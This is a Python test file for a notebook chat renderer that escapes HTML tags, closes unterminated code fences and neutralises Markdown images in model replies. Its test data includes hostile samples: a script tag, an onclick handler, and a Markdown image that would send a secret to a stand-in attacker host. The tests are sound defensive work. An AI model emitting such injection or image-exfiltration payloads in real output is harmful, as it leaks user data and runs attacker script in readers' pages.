"""A model's text cannot break out of its place, nor send anything anywhere."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from lmnb.notebook.chat.reply import Reply
from lmnb.notebook.display.markdown import close_fence, harmless


@pytest.mark.parametrize(
    ("text", "closed"),
    [
        ("plain", "plain"),
        ("```python\nx", "```python\nx\n```"),
        ("```\nx\n```", "```\nx\n```"),
        ("````\n```\nx", "````\n```\nx\n````"),
        ("~~~\n```\n", "~~~\n```\n\n~~~"),
        ("a `x` b", "a `x` b"),
        ("``` not `a fence", "``` not `a fence"),
    ],
)
def test_an_open_code_block_does_not_swallow_the_facts(text: str, closed: str) -> None:
    assert close_fence(text) == closed


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("<b onclick=x>", "&lt;b onclick=x>"),
        ("</details>", "&lt;/details>"),
        ("<!-- ", "&lt;!-- "),
        ("![x](https://e.vil/?q=secret)", "\\![x](https://e.vil/?q=secret)"),
        ("``` `<script>", "``` `&lt;script>"),
    ],
)
def test_tags_and_images_become_text_and_links(text: str, expected: str) -> None:
    assert harmless(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d, 1<2",
        "one<br>two <sub>2</sub><br/>",
        "<https://example.org/a?b=c>",
        "`<div>` and ``<a `b`>``",
        "```html\n<div>\n![x](y)\n```",
        "Hello! [link](x)",
        "$a<b$ \\(x\\)",
    ],
)
def test_code_formatting_and_arithmetic_stay(text: str) -> None:
    assert harmless(text) == text


@given(
    st.lists(
        st.sampled_from(
            ["`", "```", "~~~", "\n", "    ", "- ", "> ", "<img src=x>", "<img", " src=x>", "x"]
        )
    )
)
def test_no_arrangement_gets_a_tag_into_an_exported_page(parts: list[str]) -> None:
    html = markdown2html_mistune(Reply("".join(parts)).to_markdown())
    assert "<img" not in html


def test_a_models_name_is_text_too() -> None:
    assert Reply("x", model="<b>").to_markdown().endswith("<sub>&lt;b&gt;</sub>")
